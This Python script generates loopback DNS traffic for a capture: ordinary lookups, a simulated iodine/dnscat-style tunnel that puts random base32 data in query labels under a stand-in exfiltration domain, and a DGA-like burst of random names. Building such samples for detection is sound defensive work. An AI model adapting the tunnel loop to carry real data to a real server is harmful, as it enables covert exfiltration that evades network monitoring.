# Real DNS traffic over loopback: a tunnel (iodine/dnscat-style base32 data
# in labels under one domain, TXT answers) and a DGA burst (random names,
# NXDOMAIN), plus ordinary lookups. Captured with tcpdump.
import base64, os, random, socket, struct, threading, time
random.seed(7)
SERVER = ("127.0.0.4", 53)
def name_bytes(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
def query(qid, name, qtype):
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + name_bytes(name) + struct.pack(">HH", qtype, 1)
def serve(sock):
    while True:
        try:
            data, addr = sock.recvfrom(2048)
        except OSError:
            return
        qid = data[:2]
        q = data[12:]
        end = q.index(b"\0") + 5
        name = []
        i = 0
        while q[i]:
            name.append(q[i+1:i+1+q[i]].decode()); i += q[i] + 1
        n = ".".join(name)
        qtype = struct.unpack(">H", q[end-4:end-2])[0]
        if n.endswith("t.exfil-example.net") and qtype == 16:
            txt = base64.b32encode(os.urandom(30)).decode().rstrip("=").lower()
            ans = b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 0, len(txt) + 1) + bytes([len(txt)]) + txt.encode()
            resp = qid + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0) + q[:end] + ans
        elif n in ("www.example.com", "mail.example.org", "intranet.corp.example"):
            ans = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 300, 4) + bytes([93, 184, 216, 34])
            resp = qid + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0) + q[:end] + ans
        else:
            resp = qid + struct.pack(">HHHHH", 0x8183, 1, 0, 0, 0) + q[:end]
        sock.sendto(resp, addr)
srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); srv.bind(SERVER)
threading.Thread(target=serve, args=(srv,), daemon=True).start()
cli = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); cli.bind(("127.0.0.5", 0)); cli.settimeout(1)
def ask(name, qtype=1):
    cli.sendto(query(random.randrange(65536), name, qtype), SERVER)
    try: cli.recvfrom(2048)
    except socket.timeout: pass
for n in ["www.example.com", "mail.example.org", "intranet.corp.example"] * 5:
    ask(n)
# The tunnel: 120 queries, each carrying 48-56 bytes of data as base32 labels.
for seq in range(120):
    data = base64.b32encode(os.urandom(random.randint(30, 35))).decode().rstrip("=").lower()
    labels = [data[i:i+50] for i in range(0, len(data), 50)]
    ask(".".join(labels + ["%x" % seq, "t.exfil-example.net"]), 16)
    time.sleep(0.002)
# The DGA burst from another client address.
cli.close(); cli = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); cli.bind(("127.0.0.6", 0)); cli.settimeout(1)
alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
for i in range(60):
    sld = "".join(random.choice(alphabet) for _ in range(random.randint(14, 22)))
    ask(sld + random.choice([".com", ".net", ".info", ".biz"]))
srv.close()
